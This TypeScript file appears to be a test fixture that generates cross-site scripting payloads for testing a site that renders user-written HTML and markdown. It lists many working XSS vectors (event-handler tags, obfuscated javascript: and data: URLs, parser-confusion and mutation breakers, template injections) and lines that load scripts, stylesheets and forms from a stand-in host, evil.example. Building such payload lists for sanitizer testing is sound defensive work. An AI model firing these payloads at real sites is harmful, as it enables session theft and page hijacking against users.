import { readFileSync } from 'node:fs';

/** What an attack tries to call; the probe in the browser hears it. */
const CALL = 'alert(1)';

/** Elements that run a handler without a reader’s doing, or on the slightest. */
const HANDLERS = [
  'img src=x onerror',
  'image href=x onerror',
  'svg onload',
  'svg><animate onbegin',
  'svg><set attributename=x onend',
  'body onload',
  'video src=x onerror',
  'video><source src=x onerror',
  'audio autoplay src=x onloadstart',
  'iframe onload',
  'object data=x onerror',
  'embed src=x onload',
  'details open ontoggle',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'button autofocus onfocus',
  'p tabindex=1 autofocus onfocusin',
  'marquee onstart',
  'style onload',
  'link rel=stylesheet href=x onerror',
  'a href=# onclick',
  'p onpointerover',
  'p contenteditable oninput',
  'dialog open onclose',
  'custom-tag onmouseover',
  'p style=animation-name:x onanimationstart',
  'math onmouseover',
  'form onsubmit',
  'blockquote oncopy',
].map((start) => `<${start}=${CALL}>text`);

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java&#10;script:${CALL}`,
  `&#1;javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#x6a;avascript&#58;${CALL}`,
  `javascript://news.example/%0a${CALL}`,
  `vbscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `view-source:javascript:${CALL}`,
];

/** What carries an address: HTML, and markdown’s own forms. */
const CARRIERS = [
  (to: string) => `<a href="${to}">text</a>`,
  (to: string) => `[text](${to})`,
  (to: string) => `[text](<${to}>)`,
  (to: string) => `<${to}>`,
  (to: string) => `[text][1]\n\n[1]: ${to}`,
  (to: string) => `![text](${to})`,
  (to: string) =>
    `<form action="${to}"><button formaction="${to}">text</button></form><iframe src="${to}"></iframe>`,
  (to: string) => `<svg><a xlink:href="${to}" href="${to}"><text>text</text></a></svg>`,
  (to: string) =>
    `<meta http-equiv=refresh content="0; url=${to}"><base href="${to}"><object data="${to}"></object>`,
];

/** Ways out of the place that a text stands in, and things that a parser reads in two ways. */
const BREAKERS = [
  `<script>${CALL}</script>`,
  `<ScRiPt/x>${CALL}</sCrIpT >`,
  `<<script>${CALL}//<</script>`,
  `<scr\u0000ipt>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</title></style></textarea></noscript><script>${CALL}</script>`,
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" onpointerover="${CALL}" x="`,
  `' autofocus tabindex=1 onfocus='${CALL}`,
  `\`onmouseover=${CALL}`,
  `<img/src/onerror=${CALL}>`,
  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
  `--><script>${CALL}</script><!--`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `]]><script>${CALL}</script>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${CALL}</script>">]>&y;`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `<template><script>${CALL}</script></template>`,
  `<textarea><p title="</textarea><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg></p><style><a title="</style><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${CALL}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<svg><foreignObject><iframe onload=${CALL}></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"/></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text>text</text></a></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<p style="background:url(javascript:${CALL})">text</p>`,
  '<p style="position:fixed;inset:0;z-index:9">text</p>',
  '<style>*{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=preload as=image href=https://evil.example/x.png>',
  '<img src=https://evil.example/x.png srcset="https://evil.example/y.png 2x">',
  '![text](https://evil.example/x.png)',
  '<video poster=https://evil.example/x.png src=https://evil.example/x.mp4></video>',
  '<a href=https://other.example ping=https://evil.example target=_blank>text</a>',
  '<form action=https://evil.example><input name=q></form>',
  '<script src=https://evil.example/x.js></script>',
  '<script type=module>import "https://evil.example/x.js"</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<a id=main>text</a><p id=q>text</p><img name=body><form id=document name=location>',
  '<main><h1>Another headline</h1></main><site-search></site-search>',
  '<p data-pagefind-body data-pagefind-meta="title:Taken" data-pagefind-filter="source:Taken">text</p>',
  `<mark>text</mark><mark onclick=${CALL}>text</mark>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
  `[text](https://other.example "x\\" onmouseover=\\"${CALL}")`,
  `![" onerror="${CALL}](x)`,
  `[text][^x]\n\n[^x]: <img src=x onerror=${CALL}>`,
  `\`\`\`html" onload="${CALL}\n<script>${CALL}</script>\n\`\`\``,
  `| a |\n| --- |\n| <img src=x onerror=${CALL}> |`,
  `# <img src=x onerror=${CALL}>`,
  `> <script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}} <%= ${CALL} %> {% ${CALL} %}`,
  `＜script＞${CALL}＜/script＞`,
  `\u202e<script>${CALL}</script>\u2028${CALL}`,
  'text \u000b\u000c\u001f\ufffe text',
  `<plaintext><script>${CALL}</script>`,
];

/**
 * Gets attacks on a site that shows what others wrote, each a text for any field. `ATTACKS` may name a
 * JSON file with a further list of texts.
 */
export function getAttacks(): string[] {
  const further = process.env['ATTACKS'];
  const more: unknown = further ? JSON.parse(readFileSync(further, 'utf8')) : [];
  if (!Array.isArray(more) || !more.every((text) => typeof text === 'string')) {
    throw new Error(
      `ATTACKS is “${further}”, which holds no JSON list of texts. Correct the file.`,
    );
  }
  const carried = CARRIERS.flatMap((carry) => ADDRESSES.map(carry));
  return [...HANDLERS, ...carried, ...BREAKERS, ...more];
}

/** Gets one attack in four, of every kind: `npm run soak` has a site of all of them. */
export function getSomeAttacks(): string[] {
  return getAttacks().filter((_attack, index) => index % 4 === 0);
}
